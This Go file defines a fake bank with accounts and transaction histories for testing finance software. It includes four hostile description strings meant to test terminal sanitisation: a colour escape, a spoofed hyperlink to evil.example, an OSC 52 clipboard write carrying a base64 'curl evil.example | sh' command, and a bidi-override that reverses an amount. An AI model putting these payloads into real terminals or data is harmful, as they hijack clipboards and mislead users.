package fakebank

import (
	"fmt"
	"math/rand/v2"
	"sort"
	"strings"
	"time"
)

// Txn is one transaction as the bank keeps it. Amount is in minor units of
// the account's currency (two decimals for every scenario currency).
type Txn struct {
	ID          string
	Posted      time.Time // zero while pending
	Transacted  time.Time
	Amount      int64
	Description string
	Payee       string
	Memo        string
	Pending     bool
}

// day is the date the bank files a row under: posted, or transacted while
// pending.
func (t Txn) day() time.Time {
	if t.Pending || t.Posted.IsZero() {
		return t.Transacted
	}
	return t.Posted
}

// Account is one of the user's accounts at the bank.
type Account struct {
	ID       string
	ConnID   string
	Name     string
	Currency string // ISO 4217 code, or a URL for a custom currency
	// Kind is how the OFX server files it: "CHECKING", "SAVINGS" or "CC".
	Kind    string
	Opening int64
	Txns    []Txn
	// MissingData makes the server report act.missingdata for it.
	MissingData bool
}

// Balance is the opening balance plus every posted row: the ledger balance.
func (a *Account) Balance() int64 {
	b := a.Opening
	for _, t := range a.Txns {
		if !t.Pending {
			b += t.Amount
		}
	}
	return b
}

// Connection is one set of bank logins at the aggregator.
type Connection struct {
	ID     string
	Name   string
	OrgID  string
	OrgURL string
	// NeedsAuth makes the server report con.auth for it.
	NeedsAuth bool
}

// Bank is the user's data at the fake bank. Its fields may be changed
// between requests through the methods below, which take the lock.
type Bank struct {
	Today       time.Time
	Connections []*Connection
	Accounts    []*Account
	steps       int // how many times Advance ran
}

func dayOf(t time.Time) time.Time {
	y, m, d := t.UTC().Date()
	return time.Date(y, m, d, 0, 0, 0, 0, time.UTC)
}

// Hostile descriptions: what a malicious or broken bank could send to a
// terminal. Each must be stored as received and never printed raw.
const (
	HostileCSI   = "\x1b[31mURGENT\x1b[0m CALL 555-0100"
	HostileOSC8  = "\x1b]8;;https://evil.example/\x1b\\PAYPAL *REFUND\x1b]8;;\x1b\\"
	HostileOSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07COPY SHOP"
	HostileBidi  = "RENT \u202E00.0021\u202C"
)

// Scenario builds the scenario bank as of today (UTC): checking, savings, a
// Visa card and a custom-currency rewards account at one connection, a EUR
// account at another, with half a year of history.
func Scenario(today time.Time) *Bank {
	today = dayOf(today)
	d := func(n int) time.Time { return today.AddDate(0, 0, -n) }
	b := &Bank{Today: today}
	b.Connections = []*Connection{
		{ID: "CON-FCB", Name: "First Community Bank", OrgID: "fcb", OrgURL: "https://fcb.example"},
		{ID: "CON-EUB", Name: "Europa Bank", OrgID: "eub", OrgURL: "https://eub.example"},
	}
	chk := &Account{ID: "ACT-CHK-1", ConnID: "CON-FCB", Name: "Everyday Checking", Currency: "USD", Kind: "CHECKING", Opening: 1_250_00}
	sav := &Account{ID: "ACT-SAV-1", ConnID: "CON-FCB", Name: "High Yield Savings", Currency: "USD", Kind: "SAVINGS", Opening: 8_000_00}
	visa := &Account{ID: "ACT-VISA-1", ConnID: "CON-FCB", Name: "Visa Signature", Currency: "USD", Kind: "CC"}
	pts := &Account{ID: "ACT-PTS-1", ConnID: "CON-FCB", Name: "Rewards Points", Currency: "https://fcb.example/currency/points", Kind: "SAVINGS"}
	eur := &Account{ID: "ACT-EUR-1", ConnID: "CON-EUB", Name: "Girokonto", Currency: "EUR", Kind: "CHECKING", Opening: 900_00}
	for n := 175; n >= 0; n -= 14 {
		chk.add(fmt.Sprintf("CHK-PAY-%d", n), d(n), 2_500_00, "ACME CORP PAYROLL")
	}
	groceries := []int64{85_40, 62_13, 104_77, 71_02, 93_58, 55_90, 120_31}
	for n, i := 170, 0; n >= 1; n, i = n-7, i+1 {
		chk.add(fmt.Sprintf("CHK-GRO-%d", n), d(n), -groceries[i%len(groceries)], "WHOLE FOODS MARKET #10234")
	}
	// A transfer between two of the user's accounts, a day apart.
	chk.add("CHK-XFER-10", d(10), -500_00, "ONLINE TRANSFER TO SAVINGS XXXX4821")
	sav.add("SAV-XFER-9", d(9), 500_00, "ONLINE TRANSFER FROM CHECKING XXXX1977")
	for n := 150; n >= 0; n -= 30 {
		sav.add(fmt.Sprintf("SAV-INT-%d", n), d(n), 4_12, "INTEREST PAYMENT")
	}
	// Hostile descriptions.
	chk.add("CHK-HOST-CSI", d(4), -1_00, HostileCSI)
	chk.add("CHK-HOST-OSC8", d(4), 1, HostileOSC8)
	chk.add("CHK-HOST-OSC52", d(3), -3_00, HostileOSC52)
	chk.add("CHK-HOST-BIDI", d(2), -1_200_00, HostileBidi)
	// A pending coffee that posts later under a new id with a tip added
	// (see Settle).
	chk.Txns = append(chk.Txns, Txn{ID: "CHK-PEND-COFFEE", Transacted: d(1), Amount: -5_25,
		Description: "SQ *BLUE BOTTLE COFFEE", Pending: true})
	// A subscription whose price goes up, and a duplicate charge.
	for i, n := range []int{155, 125, 95, 65, 35} {
		visa.add(fmt.Sprintf("VISA-NFLX-%d", i), d(n), -15_49, "NETFLIX.COM")
	}
	visa.add("VISA-NFLX-5", d(5), -17_99, "NETFLIX.COM")
	visa.add("VISA-AMZN-A", d(3), -42_99, "AMAZON MKTPLACE PMTS")
	visa.add("VISA-AMZN-B", d(3), -42_99, "AMAZON MKTPLACE PMTS")
	for n := 160; n >= 6; n -= 9 {
		visa.add(fmt.Sprintf("VISA-REST-%d", n), d(n), -int64(20_00+n*7), "CHEZ PANISSE BERKELEY")
	}
	pts.add("PTS-1", d(20), 1_500, "POINTS EARNED")
	for n := 160; n >= 0; n -= 30 {
		eur.add(fmt.Sprintf("EUR-SAL-%d", n), d(n), 3_100_00, "GEHALT MUSTERFIRMA GMBH")
		eur.add(fmt.Sprintf("EUR-REWE-%d", n), d(n), -23_45, "REWE SAGT DANKE 4471")
	}
	b.Accounts = []*Account{chk, sav, visa, pts, eur}
	for _, a := range b.Accounts {
		a.sort()
	}
	return b
}

func (a *Account) add(id string, posted time.Time, amount int64, desc string) {
	a.Txns = append(a.Txns, Txn{ID: id, Posted: posted, Transacted: posted.Add(13 * time.Hour), Amount: amount, Description: desc})
}

func (a *Account) sort() {
	sort.SliceStable(a.Txns, func(i, j int) bool { return a.Txns[i].day().Before(a.Txns[j].day()) })
}

// Generated builds a plain bank of n USD checking accounts at one
// connection with days of history and perDay rows a day each, for
// benchmarks.
func Generated(today time.Time, n, days, perDay int) *Bank {
	today = dayOf(today)
	b := &Bank{Today: today, Connections: []*Connection{{ID: "CON-GEN", Name: "Generated Bank", OrgID: "gen", OrgURL: "https://gen.example"}}}
	r := rand.New(rand.NewPCG(uint64(n), uint64(days)))
	payees := []string{"WHOLE FOODS MARKET", "SHELL OIL 5744", "AMAZON MKTPLACE PMTS", "CITY OF OAKLAND PARKING",
		"SQ *BLUE BOTTLE COFFEE", "TRADER JOE'S #552", "COMCAST CABLE", "UBER TRIP HELP.UBER.COM"}
	for i := range n {
		a := &Account{ID: fmt.Sprintf("ACT-GEN-%02d", i), ConnID: "CON-GEN", Name: fmt.Sprintf("Account %02d", i),
			Currency: "USD", Kind: "CHECKING", Opening: 5_000_00}
		for dd := days - 1; dd >= 0; dd-- {
			for k := range perDay {
				a.add(fmt.Sprintf("G%02d-%03d-%d", i, dd, k), today.AddDate(0, 0, -dd), -int64(1_00+r.IntN(150_00)),
					payees[r.IntN(len(payees))])
			}
		}
		b.Accounts = append(b.Accounts, a)
	}
	return b
}

func (b *Bank) account(id string) *Account {
	for _, a := range b.Accounts {
		if a.ID == id {
			return a
		}
	}
	return nil
}

func (b *Bank) connection(id string) *Connection {
	for _, c := range b.Connections {
		if c.ID == id {
			return c
		}
	}
	return nil
}

// settle posts the pending coffee: the posted row has a new id, a tip added
// and the longer description banks give settled card rows.
func (b *Bank) settle() {
	chk := b.account("ACT-CHK-1")
	if chk == nil {
		return
	}
	for i, t := range chk.Txns {
		if t.ID == "CHK-PEND-COFFEE" {
			chk.Txns = append(chk.Txns[:i], chk.Txns[i+1:]...)
			chk.Txns = append(chk.Txns, Txn{ID: "CHK-POST-COFFEE", Posted: b.Today, Transacted: t.Transacted,
				Amount: -6_50, Description: "SQ *BLUE BOTTLE COFFEE 0412 OAKLAND CA"})
			chk.sort()
			return
		}
	}
}

// relink replaces an account by the same account under a new id, as an
// aggregator does when the user re-links the bank: every row gets a new id
// and the dates shift by a day.
func (b *Bank) relink(id string) string {
	a := b.account(id)
	if a == nil {
		return ""
	}
	newID := strings.TrimSuffix(id, "-1") + "-2"
	a.ID = newID
	for i := range a.Txns {
		t := &a.Txns[i]
		t.ID = "R-" + t.ID
		if !t.Posted.IsZero() && t.Posted.Before(b.Today) {
			t.Posted = t.Posted.AddDate(0, 0, 1)
		}
	}
	return newID
}
